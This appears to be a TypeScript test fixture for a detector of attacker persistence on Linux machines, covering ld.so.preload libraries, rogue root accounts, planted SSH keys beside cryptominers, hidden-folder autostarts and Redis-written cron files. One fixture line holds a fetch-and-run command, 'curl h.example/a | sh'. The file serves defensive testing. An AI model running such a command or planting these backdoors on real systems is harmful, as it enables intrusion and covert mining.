import type { DetectorFixture } from '../../../tests/fixture.ts';
import { at, autostartOf, configOf, processOf } from '../../../tests/machine-story.ts';

const key = { mechanism: 'ssh-key', place: '/root/.ssh/authorized_keys', packaged: 'no' } as const;

export const fixture: DetectorFixture = {
  fires: [
    {
      name: 'a library that is loaded into every program',
      stage: 'mention',
      seen: [
        autostartOf({
          mechanism: 'ld-preload',
          place: '/etc/ld.so.preload',
          programs: ['/usr/local/lib/libproc.so'],
          why: ['loads-into-everything'],
        }),
      ],
    },
    {
      name: "a second account with root's number",
      stage: 'mention',
      seen: [autostartOf({ mechanism: 'account', place: '/etc/passwd', name: 'sysadm', why: ['lets-in'] })],
    },
    {
      name: 'a cron line that fetches something and runs it',
      stage: 'mention',
      seen: [autostartOf({ starts: 'curl h.example/a | sh', carries: 'download', why: ['fetches-and-runs'] })],
    },
    {
      name: 'a key that came with the miner',
      stage: 'mention',
      seen: [autostartOf({ ...key, modified: '2026-11-20T11:00:00.000Z' }), processOf({ why: ['mines'] })],
    },
    {
      name: 'an entry out of a hidden folder beside a miner',
      stage: 'mention',
      seen: [autostartOf({ why: ['from-hidden-folder'] }), processOf({ why: ['mines'] })],
    },
    {
      name: 'a cron line in a file that Redis wrote',
      stage: 'mention',
      seen: [autostartOf({ starts: '/usr/bin/true', why: ['written-by-redis'] })],
    },
  ],
  silent: [
    { name: 'a key', seen: [autostartOf({ ...key, modified: '2026-11-20T11:00:00.000Z', why: ['recent'] })] },
    {
      name: 'a key that is older than the miner',
      seen: [autostartOf({ ...key, modified: '2026-10-20T11:00:00.000Z' }), processOf({ why: ['mines'] })],
    },
    {
      name: 'a hook of a checkout in a temporary folder, which starts what lies there, too',
      seen: [
        autostartOf({
          mechanism: 'git-hook',
          place: '/tmp/build/.git/hooks/pre-commit',
          programs: ['/tmp/build/check.sh'],
          why: ['from-temporary-folder'],
        }),
        processOf({ why: ['mines'] }),
      ],
    },
    { name: 'an entry out of a hidden folder', seen: [autostartOf({ why: ['from-hidden-folder'] })] },
    {
      name: 'what starts something out of the folder of a miner, which is told as that',
      seen: [
        autostartOf({ programs: ['/var/tmp/.x/run.sh'], why: ['from-temporary-folder'] }),
        at('/var/tmp/.x/config.json', configOf({ source: 'json' }), 'config'),
      ],
    },
    { name: 'what starts the miner itself', seen: [autostartOf({ mines: true, why: ['mines', 'decodes'] })] },
  ],
};
